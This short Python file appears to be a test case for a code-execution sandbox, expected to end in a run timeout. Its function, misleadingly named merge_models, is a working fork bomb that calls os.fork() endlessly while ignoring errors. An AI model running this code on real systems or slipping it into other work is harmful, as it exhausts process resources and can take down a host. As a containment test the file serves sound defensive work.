"""Forks for ever, whatever the kernel says.

Expected: run timeout
"""

import contextlib
import os


def merge_models(model_dict, device):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
